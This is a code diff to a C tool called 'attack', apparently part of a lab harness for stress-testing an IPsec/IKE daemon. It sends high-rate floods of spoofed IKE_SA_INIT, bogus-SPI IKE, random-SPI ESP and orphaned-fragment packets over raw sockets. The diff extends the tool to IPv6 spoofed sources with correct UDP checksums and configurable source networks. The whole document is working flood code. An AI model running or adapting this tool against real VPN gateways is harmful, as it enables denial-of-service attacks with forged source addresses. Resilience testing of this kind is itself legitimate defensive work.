@@ -1,10 +1,21 @@
-/* Sends one class of hostile IPv4 packets from spoofed sources (100.64.0.0/10) at a rate, the same ones for
- * the same seed, then says in a line of JSON how many:  attack CLASS TARGET RATE SECONDS SEED init      first
- * IKE messages       ike       IKE of SPIs that nobody made esp       ESP with random SPIs     fragment first
- * fragments whose others never come Built and run by the tests (attack.py); needs CAP_NET_RAW. */
+/* Sends one class of hostile packets from spoofed sources at a rate, the same ones for the same seed, then
+ * says in a line of JSON how many it sent:
+ *
+ *     attack CLASS TARGET RATE SECONDS SEED [SOURCES]
+ *
+ * - init      first IKE messages
+ * - ike       IKE of SPIs that nobody made
+ * - esp       ESP in UDP with random SPIs
+ * - fragment  first fragments whose others never come
+ *
+ * It ends early on SIGTERM. TARGET's family is that of the packets. SOURCES is a network, 100.64.0.0/10 or
+ * 2001:db8:8000::/33 without. Built and run by lab/assault.py; needs CAP_NET_RAW. */
 #include <arpa/inet.h>
+#include <netinet/in.h>
 #include <netinet/ip.h>
+#include <netinet/ip6.h>
 #include <netinet/udp.h>
+#include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -12,9 +23,17 @@
 #include <sys/socket.h>
 #include <time.h>
 
-enum { HEADERS = 28, IKE_HEADER = 28, FRAGMENT_LEN = 1200, ESP_LEN = 128, BURST = 64 };
+enum { HEADERS_MAX = 56, IKE_HEADER = 28, FRAGMENT_LEN = 1200, ESP_LEN = 128, BURST = 64 };
+
+struct attack {
+    const char *class;
+    uint8_t target[16], sources[16]; /* the first 4 bytes of each for IPv4 */
+    unsigned source_bits;
+    int is_v6;
+};
 
 static uint64_t random_state;
+static volatile sig_atomic_t ended;
 
 /* splitmix64 */
 static uint64_t random_next(void)
@@ -59,39 +78,103 @@ static size_t make_init(uint8_t *ike)
     return len;
 }
 
-/* The packet's length. Everything that is not set stays random. */
-static size_t make(const char *class, uint8_t *packet, uint32_t target)
+/* An address of the sources' network; the caller has filled it with random bytes. */
+static void source_set(const struct attack *attack, uint8_t *addr)
 {
-    uint8_t *body = packet + HEADERS;
-    size_t len = ESP_LEN;
-    uint16_t port = 4500, fragment = 0;
-    random_fill(packet, HEADERS + FRAGMENT_LEN);
-    if (strcmp(class, "init") == 0) {
-        len = make_init(body);
-        port = 500;
-    } else if (strcmp(class, "ike") == 0) {
-        ike_header(body, 46, 37, ESP_LEN);
-        port = 500;
-    } else if (strcmp(class, "fragment") == 0) {
-        len = FRAGMENT_LEN;
-        fragment = IP_MF;
+    unsigned whole = attack->source_bits / 8, rest = attack->source_bits % 8;
+    memcpy(addr, attack->sources, whole);
+    if (rest != 0) {
+        uint8_t mask = (uint8_t)(0xff00U >> rest);
+        addr[whole] = (uint8_t)((attack->sources[whole] & mask) | (addr[whole] & ~mask));
     }
+}
+
+static void ip4_header(const struct attack *attack, uint8_t *packet, size_t payload_len, int is_fragment)
+{
     struct iphdr ip = {.version = 4,
                        .ihl = 5,
                        .ttl = 64,
                        .protocol = IPPROTO_UDP,
-                       .daddr = target,
                        .id = (uint16_t)(random_next() | 1),
-                       .frag_off = htons(fragment),
-                       .tot_len = htons((uint16_t)(HEADERS + len)),
-                       .saddr = htonl(0x64400000U | (random_next() & 0x3fffff))};
-    size_t udp_len = 8 + len + (fragment ? 2 * FRAGMENT_LEN : 0);
+                       .frag_off = htons(is_fragment ? IP_MF : 0),
+                       .tot_len = htons((uint16_t)(sizeof ip + payload_len))};
+    memcpy(&ip.saddr, packet + 12, 4);
+    source_set(attack, (uint8_t *)&ip.saddr);
+    memcpy(&ip.daddr, attack->target, 4);
+    memcpy(packet, &ip, sizeof ip);
+}
+
+static void ip6_header(const struct attack *attack, uint8_t *packet, size_t payload_len, int is_fragment)
+{
+    struct ip6_hdr ip = {.ip6_flow = htonl(6U << 28),
+                         .ip6_plen = htons((uint16_t)payload_len),
+                         .ip6_nxt = is_fragment ? IPPROTO_FRAGMENT : IPPROTO_UDP,
+                         .ip6_hlim = 64};
+    memcpy(&ip.ip6_src, packet + 8, 16);
+    source_set(attack, ip.ip6_src.s6_addr);
+    memcpy(&ip.ip6_dst, attack->target, 16);
+    memcpy(packet, &ip, sizeof ip);
+    if (is_fragment) {
+        struct ip6_frag fragment = {
+            .ip6f_nxt = IPPROTO_UDP, .ip6f_offlg = IP6F_MORE_FRAG, .ip6f_ident = (uint32_t)random_next()};
+        memcpy(packet + sizeof ip, &fragment, sizeof fragment);
+    }
+}
+
+static uint32_t sum_add(uint32_t sum, const uint8_t *data, size_t len)
+{
+    for (size_t at = 0; at + 1 < len; at += 2) {
+        sum += (uint32_t)data[at] << 8 | data[at + 1];
+    }
+    return sum;
+}
+
+/* A kernel drops UDP over IPv6 without one, so that a daemon would be spared. Lengths are even. */
+static uint16_t udp6_checksum(const uint8_t *ip, const uint8_t *udp, size_t len)
+{
+    uint32_t sum = sum_add((uint32_t)(IPPROTO_UDP + len), ip + 8, 32);
+    sum = sum_add(sum, udp, len);
+    sum = (sum & 0xffff) + (sum >> 16);
+    sum = (sum & 0xffff) + (sum >> 16);
+    return htons((uint16_t)(sum == 0xffff ? sum : ~sum));
+}
+
+/* What is behind UDP; its length, and the port it goes to. Everything that is not set stays random. */
+static size_t make_body(const char *class, uint8_t *body, uint16_t *ret_port)
+{
+    *ret_port = 4500;
+    if (strcmp(class, "fragment") == 0) {
+        return FRAGMENT_LEN;
+    }
+    if (strcmp(class, "esp") == 0) {
+        return ESP_LEN;
+    }
+    *ret_port = 500;
+    if (strcmp(class, "init") == 0) {
+        return make_init(body);
+    }
+    ike_header(body, 46, 37, ESP_LEN);
+    return ESP_LEN;
+}
+
+/* The packet's length. */
+static size_t make(const struct attack *attack, uint8_t *packet)
+{
+    int is_fragment = strcmp(attack->class, "fragment") == 0;
+    size_t udp_at = attack->is_v6 ? is_fragment ? 48 : 40 : 20, ip_len = attack->is_v6 ? 40 : 20;
+    uint16_t port;
+    random_fill(packet, HEADERS_MAX + FRAGMENT_LEN);
+    size_t len = 8 + make_body(attack->class, packet + udp_at + 8, &port);
     struct udphdr udp = {.source = htons((uint16_t)(1024 + random_next() % 60000)),
                          .dest = htons(port),
-                         .len = htons((uint16_t)udp_len)};
-    memcpy(packet, &ip, sizeof ip);
-    memcpy(packet + sizeof ip, &udp, sizeof udp);
-    return HEADERS + len;
+                         .len = htons((uint16_t)(is_fragment ? len + 2 * FRAGMENT_LEN : len))};
+    memcpy(packet + udp_at, &udp, sizeof udp);
+    (attack->is_v6 ? ip6_header : ip4_header)(attack, packet, udp_at - ip_len + len, is_fragment);
+    if (attack->is_v6) {
+        udp.check = udp6_checksum(packet, packet + udp_at, len);
+        memcpy(packet + udp_at, &udp, sizeof udp);
+    }
+    return udp_at + len;
 }
 
 static double now_s(void)
@@ -101,37 +184,74 @@ static double now_s(void)
     return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
 }
 
-static unsigned burst_send(int fd, const char *class, struct sockaddr_in *to)
+static unsigned burst_send(int fd, const struct attack *attack)
 {
-    static uint8_t packets[BURST][HEADERS + FRAGMENT_LEN];
+    static uint8_t packets[BURST][HEADERS_MAX + FRAGMENT_LEN];
+    struct sockaddr_in to4 = {.sin_family = AF_INET};
+    struct sockaddr_in6 to6 = {.sin6_family = AF_INET6};
     struct iovec parts[BURST];
     struct mmsghdr messages[BURST] = {0};
+    memcpy(&to4.sin_addr, attack->target, 4);
+    memcpy(&to6.sin6_addr, attack->target, 16);
     for (int i = 0; i < BURST; i++) {
-        parts[i] = (struct iovec){packets[i], make(class, packets[i], to->sin_addr.s_addr)};
-        messages[i].msg_hdr =
-            (struct msghdr){.msg_name = to, .msg_namelen = sizeof *to, .msg_iov = &parts[i], .msg_iovlen = 1};
+        parts[i] = (struct iovec){packets[i], make(attack, packets[i])};
+        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
+        messages[i].msg_hdr.msg_name = attack->is_v6 ? (void *)&to6 : (void *)&to4;
+        messages[i].msg_hdr.msg_namelen = attack->is_v6 ? sizeof to6 : sizeof to4;
     }
     int sent = sendmmsg(fd, messages, BURST, 0);
     return sent > 0 ? (unsigned)sent : 0;
 }
 
+static int attack_parse(char **argv, struct attack *ret_attack)
+{
+    static const char *const classes[] = {"init", "ike", "esp", "fragment"};
+    int is_v6 = strchr(argv[2], ':') != NULL, known = 0;
+    char text[64];
+    snprintf(text, sizeof text, "%s", argv[6] ? argv[6] : is_v6 ? "2001:db8:8000::/33" : "100.64.0.0/10");
+    char *slash = strchr(text, '/');
+    for (size_t i = 0; i < sizeof classes / sizeof *classes; i++) {
+        known |= strcmp(classes[i], argv[1]) == 0;
+    }
+    if (!known || !slash) {
+        return 0;
+    }
+    *slash = '\0';
+    *ret_attack = (struct attack){
+        .class = argv[1], .source_bits = (unsigned)strtoul(slash + 1, NULL, 10), .is_v6 = is_v6};
+    return ret_attack->source_bits <= (is_v6 ? 128 : 32) &&
+           inet_pton(is_v6 ? AF_INET6 : AF_INET, argv[2], ret_attack->target) == 1 &&
+           inet_pton(is_v6 ? AF_INET6 : AF_INET, text, ret_attack->sources) == 1;
+}
+
+static void end(int number)
+{
+    (void)number;
+    ended = 1;
+}
+
 int main(int argc, char **argv)
 {
-    struct sockaddr_in to = {.sin_family = AF_INET};
-    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
-    if (argc != 6 || fd < 0 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
-        fprintf(stderr, "usage: attack init|ike|esp|fragment TARGET RATE SECONDS SEED; needs CAP_NET_RAW\n");
+    struct attack attack;
+    int fd = -1;
+    if (argc >= 6 && argc <= 7 && attack_parse(argv, &attack)) {
+        fd = socket(attack.is_v6 ? AF_INET6 : AF_INET, SOCK_RAW, IPPROTO_RAW);
+    }
+    if (fd < 0) {
+        fprintf(stderr, "usage: attack init|ike|esp|fragment TARGET RATE SECONDS SEED [SOURCES]; "
+                        "needs CAP_NET_RAW\n");
         return 2;
     }
     double rate = strtod(argv[3], NULL), seconds = strtod(argv[4], NULL), start = now_s(), past = 0;
     random_state = strtoull(argv[5], NULL, 10);
     uint64_t tried = 0, sent = 0;
-    for (; past < seconds; past = now_s() - start) {
+    signal(SIGTERM, end);
+    for (; past < seconds && !ended; past = now_s() - start) {
         if ((double)tried >= past * rate) {
             nanosleep(&(struct timespec){.tv_nsec = 500000}, NULL);
             continue;
         }
-        sent += burst_send(fd, argv[1], &to);
+        sent += burst_send(fd, &attack);
         tried += BURST;
     }
     printf("{\"sent\": %llu, \"seconds\": %.2f}\n", (unsigned long long)sent, past);
